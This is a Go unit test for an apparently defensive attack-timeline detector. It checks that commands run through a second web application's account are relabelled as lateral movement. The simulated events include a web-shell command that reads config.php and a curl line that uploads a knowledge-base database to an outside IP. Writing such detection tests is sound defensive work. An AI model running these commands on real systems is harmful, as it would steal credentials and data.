package timeline

import (
	"slices"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/detect"
)

// TestOtherApps: a chain that entered through the shop's php-fpm (www-data)
// and then runs commands through the team KB's Apache as svc-kb has moved
// into the KB's account: those commands are lateral movement (6, T1210,
// said as inferred). Commands through the entry server stay where the
// rules put them; so does an act placed by its effect, a chain with
// nothing high, and a root command (the privilege gained, not an
// application's account).
func TestOtherApps(t *testing.T) {
	s := newSim(t, Options{})
	s.webServer()
	kbMaster := who{pid: 400, ppid: 1, uid: 0, exe: "/usr/sbin/apache2"}
	kbWorker := who{pid: 401, ppid: 400, uid: 2007, exe: "/usr/sbin/apache2", cwd: "/srv/kb/www", user: "svc-kb"}
	s.touch(0, kbMaster)
	s.touch(0, kbWorker)
	shop := s.find(s.exec(10, shellOf(300, worker1, "/var/www/html/img"), "sh", "-c", "id; cat config.php"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
	kbSh := who{pid: 500, ppid: 401, uid: 2007, cwd: "/srv/kb/www/ext", user: "svc-kb"}
	kb := s.find(s.exec(20, kbSh, "sh", "-c", "id; hostname"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
	kbExfil := s.find(s.exec(21, child(501, kbSh), "curl", "-T", "/srv/kb/data/kb.db", "http://198.51.100.9/u"), detect.StageExfiltrationImpact, detect.SeverityHigh, "Exfiltration Upload")
	rootSh := who{pid: 510, ppid: 401, uid: 0, cwd: "/", user: "root"}
	rootCmd := s.find(s.exec(22, rootSh, "sh", "-c", "id"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
	shopLater := s.find(s.exec(30, shellOf(310, worker2, "/var/www/html/img"), "sh", "-c", "ls -la /var/www"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
	l := newLinker(s.b, s.tree, s.findings, causality{})
	repl := map[*detect.Finding]*detect.Finding{}
	out := l.otherApps(s.findings, repl)
	placed := func(f *detect.Finding) *detect.Finding { return out[slices.Index(s.findings, f)] }
	if g := placed(kb); g.Stage != detect.StageLateralMovement || !slices.Contains(g.Attack, "T1210") || !strings.Contains(g.Reason, "inferred") {
		t.Errorf("the KB's command: stage %d, attack %v, reason %q; want 6 with T1210, said as inferred", g.Stage, g.Attack, g.Reason)
	}
	for _, c := range []struct {
		name string
		f    *detect.Finding
	}{{"the entry's command", shop}, {"the entry server's later command", shopLater}, {"an act placed by its effect", kbExfil}, {"root's command", rootCmd}} {
		if g := placed(c.f); g.Stage != c.f.Stage {
			t.Errorf("%s moved from %d to %d", c.name, c.f.Stage, g.Stage)
		}
	}
	for _, f := range s.findings {
		f.Severity = detect.SeverityMedium
	}
	if out := l.otherApps(s.findings, map[*detect.Finding]*detect.Finding{}); out[slices.Index(s.findings, kb)].Stage != kb.Stage {
		t.Error("a chain with nothing high: the KB's command was moved")
	}
}
